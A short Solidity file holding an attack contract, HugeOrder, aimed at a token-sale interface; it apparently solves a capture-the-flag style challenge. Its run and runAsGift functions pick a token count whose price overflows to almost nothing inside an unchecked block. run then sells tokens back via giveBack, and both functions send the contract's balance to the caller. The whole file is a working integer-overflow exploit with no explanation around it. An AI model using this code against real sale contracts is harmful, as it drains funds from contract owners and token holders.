// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ISale {
    function price() external view returns (uint256);

    function buyback() external view returns (uint256);

    function buy(uint256 tokens) external payable;

    function buyAsGift(address fan, uint256 tokens) external payable;

    function giveBack(uint256 tokens) external;
}

/// Buys so many tokens that their price wraps to almost nothing.
contract HugeOrder {
    function run(ISale sale, uint256 back) external payable {
        uint256 tokens = type(uint256).max / sale.price() + 1;
        unchecked {
            sale.buy{value: tokens * sale.price()}(tokens);
        }
        sale.giveBack(back);
        payable(msg.sender).transfer(address(this).balance);
    }

    function runAsGift(ISale sale) external payable {
        uint256 tokens = type(uint256).max / sale.price() + 1;
        unchecked {
            sale.buyAsGift{value: tokens * sale.price()}(msg.sender, tokens);
        }
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
